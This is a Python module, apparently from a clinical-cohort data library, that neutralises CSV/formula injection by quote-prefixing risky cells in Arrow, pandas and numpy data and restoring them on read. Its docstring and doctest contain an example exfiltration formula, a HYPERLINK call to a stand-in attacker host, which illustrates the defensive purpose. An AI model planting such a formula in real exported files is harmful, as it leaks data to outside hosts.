"""Text cells that a spreadsheet cannot run as a formula (CSV / formula injection).

A spreadsheet program opening a CSV or xlsx file treats a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage return
can hide one; a patient id such as ``=HYPERLINK("http://evil.example/?"&A1, "x")``
becomes a working link that sends data away. Following the OWASP guidance on CSV
injection, every writer of aftercar prefixes such text with a single quote
(``'=HYPERLINK(...)``), which spreadsheets show as text, and stores xlsx text as
text, never as a formula.

:func:`neutralise_formula` does it for one text, an Arrow array, a pandas Series
or a numpy array (vectorised: Arrow kernels, no Python loop over cells);
:func:`neutralise_table` for every text column (and the column names) of an Arrow
table or a pandas DataFrame. The cohort readers undo the prefix
(:func:`restore_formula_text`), so a cohort written by :func:`aftercar.io.write_cohort`
reads back unchanged.

References
----------
OWASP Foundation. CSV Injection.
https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import re
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_RISKY = r"^[=+\-@\t\r]"
#: A plain number (``-8``, ``+1.5``): a spreadsheet reads it as that number, never as a
#: formula, so it is left as written (a negative OMOP id stays equal to its ``person_id``).
_NUMBER = r"^[+-]?[0-9]+(\.[0-9]+)?$"
_QUOTED = r"^'[=+\-@\t\r]"


def _neutralise_arrow(arr: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    risky = pc.fill_null(pc.match_substring_regex(arr, _RISKY), False)
    if pc.any(risky).as_py():
        number = pc.fill_null(pc.match_substring_regex(arr, _NUMBER), False)
        risky = pc.and_not(risky, number)
    if not pc.any(risky).as_py():
        return arr
    quoted = pc.binary_join_element_wise(pa.scalar("'", arr.type), arr, pa.scalar("", arr.type))
    return pc.if_else(risky, quoted, arr)


def neutralise_formula(values: Any) -> Any:
    """Prefix text starting with ``= + - @`` tab or CR with a single quote, but for a plain
    number (``-8``: a spreadsheet reads it as the number).

    Parameters
    ----------
    values
        A ``str``, an Arrow string array (chunked or not), a pandas Series or a
        numpy array. Non-text values (numbers, dates, missing values) are left
        as they are.

    Returns
    -------
    The same kind of object with risky text prefixed (``"=1+1"`` -> ``"'=1+1"``).

    Examples
    --------
    >>> neutralise_formula("=HYPERLINK(\\"http://evil.example\\")")
    '\\'=HYPERLINK("http://evil.example")'
    >>> neutralise_formula("-5"), neutralise_formula("-2+3"), neutralise_formula("ide-cel")
    ('-5', "'-2+3", 'ide-cel')
    """
    if isinstance(values, str):
        plain = re.fullmatch(_NUMBER, values) is not None
        return "'" + values if values.startswith(FORMULA_START) and not plain else values
    if isinstance(values, pa.Array | pa.ChunkedArray):
        if pa.types.is_string(values.type) or pa.types.is_large_string(values.type):
            return _neutralise_arrow(values)
        return values
    if isinstance(values, pd.Series):
        return _neutralise_series(values)
    if isinstance(values, np.ndarray):
        out = _neutralise_series(pd.Series(values, dtype=object)).to_numpy(dtype=object)
        return out.astype(str) if values.dtype.kind == "U" else out
    return values


def _neutralise_series(series: pd.Series) -> pd.Series:
    if series.dtype == object:
        text = series.map(lambda v: isinstance(v, str)).to_numpy(dtype=bool)
        if not text.any():
            return series
        fixed = pd.Series(
            _neutralise_arrow(pa.array(series[text].to_numpy(dtype=object), pa.large_string()))
            .to_pandas()
            .to_numpy(dtype=object),
            index=series.index[text],
        )
        out = series.copy()
        out[text] = fixed
        return out
    if isinstance(series.dtype, pd.StringDtype):
        arr = pa.array(series.array, type=pa.large_string(), from_pandas=True)
        values = _neutralise_arrow(arr).to_numpy(zero_copy_only=False)  # positional, not by label
        return pd.Series(values, index=series.index, dtype=series.dtype)
    return series


def neutralise_table(table: pa.Table | pd.DataFrame) -> pa.Table | pd.DataFrame:
    """Apply :func:`neutralise_formula` to every text column and to the column names."""
    if isinstance(table, pd.DataFrame):
        out = table.copy()
        for col in out.columns:
            out[col] = neutralise_formula(out[col])
        out.columns = [neutralise_formula(c) if isinstance(c, str) else c for c in out.columns]
        return out
    columns = [neutralise_formula(table.column(i)) for i in range(table.num_columns)]
    names = [neutralise_formula(n) for n in table.column_names]
    return pa.Table.from_arrays(columns, names=names).replace_schema_metadata(table.schema.metadata)


def restore_formula_text(arr: pa.Array) -> pa.Array:
    """Undo :func:`neutralise_formula` on read: ``'=x`` -> ``=x`` (as Excel reads a typed ``'``)."""
    quoted = pc.fill_null(pc.match_substring_regex(arr, _QUOTED), False)
    if not pc.any(quoted).as_py():
        return arr
    return pc.if_else(quoted, pc.utf8_slice_codeunits(arr, 1), arr)
